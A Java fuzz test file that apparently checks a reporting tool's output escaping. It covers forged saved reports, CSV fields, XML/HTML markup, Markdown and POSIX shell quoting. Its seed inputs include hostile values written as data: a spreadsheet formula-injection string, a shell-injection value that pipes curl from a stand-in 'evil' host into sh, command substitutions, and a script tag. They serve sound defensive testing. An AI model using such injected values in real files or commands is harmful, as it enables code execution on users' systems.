package io.arcpreflight.report;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import io.arcpreflight.app.explain.SavedReport;
import io.arcpreflight.catalog.Catalog;
import io.arcpreflight.catalog.Language;
import io.arcpreflight.endpoint.OperatingSystem;
import io.arcpreflight.fuzz.FuzzTarget;
import io.arcpreflight.fuzz.FuzzTargets;
import io.arcpreflight.json.JsonParser;
import io.arcpreflight.report.json.JsonReportReader;
import io.arcpreflight.report.json.UnreadableReportException;
import io.arcpreflight.report.markdown.MarkdownText;
import io.arcpreflight.report.remedy.ShellQuoting;
import io.arcpreflight.report.terminal.TerminalStyle;
import io.arcpreflight.text.MarkupText;
import io.arcpreflight.text.VisibleText;
import java.io.IOException;
import java.io.StringReader;
import java.util.List;
import javax.xml.parsers.DocumentBuilderFactory;
import org.xml.sax.InputSource;

/** Saved reports that somebody may have forged, and what is written of them. */
class ReportFuzzTest implements FuzzTargets {
  private static final Catalog CATALOG = Catalog.load(Language.ENGLISH);

  @FuzzTarget("{\"schemaVersion\":\"1.0\"}")
  static void savedReport(byte[] input) throws Exception {
    Report report;
    try {
      report = new JsonReportReader().read(new String(input, UTF_8), "report.json");
    } catch (UnreadableReportException e) {
      assertThat(e.getMessage()).contains("report.json");
      return;
    }
    Report judged;
    try {
      judged = SavedReport.judgeAgain(report, CATALOG);
    } catch (IllegalArgumentException refused) {
      // Explain tells it as a report that holds what no run has seen.
      return;
    }
    var style =
        new ReportStyle(
            new TerminalStyle(false, true, TerminalStyle.Detail.VERBOSE, 80),
            Language.ENGLISH,
            OperatingSystem.LINUX);
    for (var format : ReportFormat.values()) {
      var out = new StringBuilder();
      format.reportWriter(style).write(judged, out);
      holds(format, out.toString());
    }
  }

  private static void holds(ReportFormat format, String written) throws Exception {
    assertThat(written.chars().noneMatch(c -> c == 27 || c == 0)).as(format.id()).isTrue();
    switch (format) {
      case JSON -> JsonParser.parseObject(written);
      case NDJSON -> {
        for (var line : written.lines().toList()) {
          JsonParser.parseObject(line);
        }
      }
      case JUNIT -> xml(written);
      case HTML -> xml(written.replaceFirst("<!DOCTYPE html>", ""));
      case NAGIOS -> assertThat(written.indexOf('|')).isEqualTo(written.lastIndexOf('|'));
      case PROMETHEUS ->
          assertThat(written.lines()).allMatch(it -> it.matches("# .*|\\w+(\\{.*})? -?[0-9.eE+]+"));
      case TEXT, MARKDOWN, FIREWALL, FIREWALL_CSV -> assertThat(written).doesNotContain("\u202e");
    }
  }

  private static void xml(String text) throws Exception {
    var builder = DocumentBuilderFactory.newInstance().newDocumentBuilder();
    builder.setErrorHandler(null);
    builder.parse(new InputSource(new StringReader(text)));
  }

  @FuzzTarget({"=cmd|' /C calc'!A0", "a\"b,c\r\nd", "'x", "-1", "\t=1"})
  static void csv(byte[] input) throws IOException {
    var text = new String(input, UTF_8);
    var out = new StringBuilder();
    CsvRecord.write(List.of(text, "next"), out);
    var record = out.toString();
    assertThat(record).endsWith(",next\r\n");
    var field = record.substring(0, record.length() - ",next\r\n".length());
    var quoted = field.startsWith("\"");
    var bare = quoted ? field.substring(1, field.length() - 1).replace("\"\"", "\"") : field;
    assertThat(quoted || text.indexOf(',') < 0).isTrue();
    assertThat(bare.isEmpty() || "=+-@\t\r".indexOf(bare.charAt(0)) < 0).isTrue();
    assertThat(bare).endsWith(text);
  }

  @FuzzTarget({"<script>&\"'", "]]>\ufffe", "\ud800", "a\u0000b"})
  static void markup(byte[] input) throws Exception {
    var text = new String(input, UTF_8);
    var escaped = MarkupText.escaped(text);
    var builder = DocumentBuilderFactory.newInstance().newDocumentBuilder();
    builder.setErrorHandler(null);
    var xml = "<a b=\"" + escaped + "\">" + escaped + "</a>";
    var read = builder.parse(new InputSource(new StringReader(xml))).getDocumentElement();
    assertThat(read.getAttribute("b")).isEqualTo(read.getTextContent());
    assertThat(read.getElementsByTagName("*").getLength()).isZero();
  }

  @FuzzTarget({"`code` **bold** [x](y)", "# h\n- x", "a|b", "www.x.test @team", "1. x"})
  static void markdown(byte[] input) {
    var text = new String(input, UTF_8);
    var plain = MarkdownText.plain(text);
    assertThat(plain.codePoints().noneMatch(VisibleText::isHidden)).isTrue();
    assertThat(plain).doesNotContainPattern("(?<!\\\\)://").doesNotContain("\n");
    assertThat(MarkdownText.code(text)).doesNotContain("\n");
  }

  /** What a shell makes of the word is the text itself. */
  @FuzzTarget({"a b", "x';curl evil|sh;'", "$(id)`id`", "\\", "~", "-rf"})
  static void shellQuoting(byte[] input) {
    var text = new String(input, UTF_8);
    assertThat(unquoted(ShellQuoting.POSIX.quoted(text))).isEqualTo(text);
    if (ShellQuoting.POSIX.isInert(text)) {
      assertThat(text).doesNotContainPattern("[$`\"'|&;<>()\\\\\n]");
    }
  }

  private static String unquoted(String word) {
    var text = new StringBuilder();
    var quoted = false;
    for (var i = 0; i < word.length(); i++) {
      var c = word.charAt(i);
      if (c == '\'') {
        quoted = !quoted;
      } else if (c == '\\' && !quoted) {
        text.append(word.charAt(++i));
      } else {
        assertThat(quoted || "$`\"|&;<>()~*? \t\n".indexOf(c) < 0).isTrue();
        text.append(c);
      }
    }
    assertThat(quoted).isFalse();
    return text.toString();
  }
}
